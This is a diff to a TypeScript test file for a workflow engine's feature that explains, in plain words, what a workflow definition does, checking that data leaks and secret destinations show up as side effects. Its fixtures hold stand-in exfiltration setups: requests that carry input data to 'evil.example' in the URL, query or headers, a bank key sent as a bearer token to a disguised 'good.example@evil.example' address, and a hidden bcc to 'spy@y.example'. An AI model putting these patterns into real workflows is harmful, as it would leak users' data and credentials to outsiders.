@@ -3,26 +3,44 @@ import { explain } from "../../../src/engine/definition/explain.ts";
 import { validateDefinition } from "../../../src/engine/definition/validation/validate.ts";
 import { TEMPLATES } from "../../../src/engine/workflows/templates.ts";
 import type { JsonObject } from "../../../src/shared/json.ts";
+import { plainText, type Wording } from "../../../src/shared/wording.ts";
 import { realRegistries } from "../../support/registries.ts";
 
 function explained(source: JsonObject) {
   const context = realRegistries();
   const { definition, problems } = validateDefinition(source, context);
   if (definition === null) throw new Error(JSON.stringify(problems));
-  return explain(definition, context.services);
+  const { steps, ...told } = explain(definition, context.services);
+  const texts = (lines: readonly Wording[]) => lines.map(plainText);
+  return {
+    triggers: texts(told.triggers),
+    access: texts(told.access),
+    inputs: texts(told.inputs),
+    sideEffects: texts(told.sideEffects),
+    reads: texts(told.reads),
+    secrets: texts(told.secrets),
+    approvers: texts(told.approvers),
+    limits: texts(told.limits),
+    settings: texts(told.settings),
+    steps: steps.map((step) => ({
+      ...step,
+      text: plainText(step.text),
+      goesOn: step.goesOn && plainText(step.goesOn),
+    })),
+  };
 }
 
 describe("explaining a definition", () => {
   test("tells triggers, inputs, steps with routes, side effects with places, approvers and limits", () => {
     const told = explained({ ...TEMPLATES.get("expense-approval"), id: "expense" });
     expect(told.triggers).toContain("Somebody starts it with the slash command");
-    expect(told.inputs[0]).toBe("amount (number, required): Amount (USD)");
+    expect(told.inputs[0]).toBe("amount (number, required): Amount (USD); min 0.01; max 1000000");
     expect(told.steps[0]).toMatchObject({ id: "ai-prescreen", depth: 0 });
     expect(told.steps[0]?.goesOn).toContain("on failure → manager-approval-unscreened");
     expect(told.steps.find(({ id }) => id === "two-person-approval")?.text).toMatch(
       /Asks @finance in #approvals: .*2 of them have to agree, and waits 3 d at most/,
     );
-    expect(told.sideEffects.join("\n")).toContain("Posts to #approvals: ");
+    expect(told.sideEffects.join("\n")).toContain("Posts to #approvals (step announce-approval)");
     expect(told.approvers.join("\n")).toContain("@finance (2 of them have to agree)");
     expect(told.limits[0]).toBe("AI may cost $0.10 a run at most.");
   });
@@ -110,7 +128,99 @@ describe("explaining a definition", () => {
       ["look", 1],
       ["tell", 1],
     ]);
-    expect(told.sideEffects).toHaveLength(1);
-    expect(told.sideEffects[0]).toContain("POST https:");
+    expect(told.sideEffects).toEqual(["Sends POST to example.com (step tell)"]);
+    expect(told.reads).toEqual(["Sends GET to example.com (step look)"]);
+  });
+
+  test.for([
+    ["its address", { url: "https://evil.example/x?d={{variables.notes}}" }],
+    ["its path", { url: "https://evil.example/{{variables.notes}}" }],
+    ["its query", { url: "https://evil.example/x", query: { d: "{{variables.notes}}" } }],
+    ["a header", { url: "https://evil.example/x", headers: { "X-D": "{{variables.notes}}" } }],
+  ] as const)("counts a GET that carries data out in %s as an effect", ([, params]) => {
+    const told = explained({
+      id: "leak",
+      name: "Leak",
+      inputs: { notes: { type: "text" } },
+      steps: [{ id: "look", type: "service", config: { service: "http", ...params } }],
+    });
+    expect(told.sideEffects).toEqual(["Sends GET to evil.example (step look)"]);
+    expect(told.reads).toEqual([]);
+  });
+
+  test("names every recipient, every value that is sent and where each secret goes, whole", () => {
+    const long = `${"x".repeat(5000)} the end`;
+    const told = explained({
+      id: "send",
+      name: "Send",
+      inputs: { v: { type: "string" } },
+      trigger: { type: "webhook", path: "/webhooks/in", secret: "HOOK_KEY" },
+      permissions: { run: ["@finance"] },
+      steps: [
+        {
+          id: "mail",
+          type: "service",
+          config: {
+            ...{ service: "email", to: "a@x.example", cc: ["c@x.example", "d@x.example"] },
+            ...{ bcc: "spy@y.example", subject: "S", text: long },
+            attachments: [{ filename: "all.csv", content: "{{variables.v}}" }],
+          },
+          next: "call",
+        },
+        {
+          id: "call",
+          type: "service",
+          config: {
+            ...{ service: "http", method: "PUT", url: "https://good.example@evil.example/p" },
+            headers: { Authorization: "Bearer {{secrets.BANK_KEY}}", "X-Copy": "{{variables.v}}" },
+            query: { q: "{{variables.v}}" },
+            body: { deep: { card: "{{variables.v}}" } },
+          },
+          next: "ask",
+        },
+        {
+          id: "ask",
+          type: "ai-decision",
+          config: { prompt: long, model: "m-1", fallbackModel: "m-2", outputFormat: "text" },
+          next: "rows",
+        },
+        {
+          id: "rows",
+          type: "service",
+          config: { service: "database", query: "DELETE FROM t WHERE a = $1", values: [1] },
+          next: "child",
+        },
+        { id: "child", type: "workflow", config: { workflowId: "other", variables: { v: "1" } } },
+      ],
+    });
+    expect(told.sideEffects).toEqual([
+      "Sends an e-mail to a@x.example, a copy to c@x.example, d@x.example, a hidden copy to spy@y.example, with 1 attachments (step mail)",
+      "Sends PUT to evil.example (as the user good.example) (step call)",
+      "Sends its prompt to the model m-1 or the model m-2 (step ask)",
+      "Runs a statement in the database default (step rows)",
+      "Starts the workflow other (step child)",
+    ]);
+    const given = Object.fromEntries(
+      told.steps.flatMap(({ id, details }) =>
+        details.map(({ name, value }) => [`${id} ${name}`, value]),
+      ),
+    );
+    expect(given).toMatchObject({
+      "mail text": long,
+      "mail bcc": "spy@y.example",
+      "call headers.X-Copy": "{{variables.v}}",
+      "call headers.Authorization": "Bearer {{secrets.BANK_KEY}}",
+      "call query.q": "{{variables.v}}",
+      "call body.deep": '{"card":"{{variables.v}}"}',
+      "ask prompt": long,
+      "rows query": "DELETE FROM t WHERE a = $1",
+      "rows values": "[1]",
+      "child variables.v": "1",
+    });
+    expect(told.secrets).toEqual([
+      "BANK_KEY: Sends PUT to evil.example (as the user good.example) (http.request), step call",
+      "HOOK_KEY: proves who sends to /webhooks/in; it is not sent anywhere",
+    ]);
+    expect(told.access).toEqual(["@finance and admins may start it."]);
   });
 });
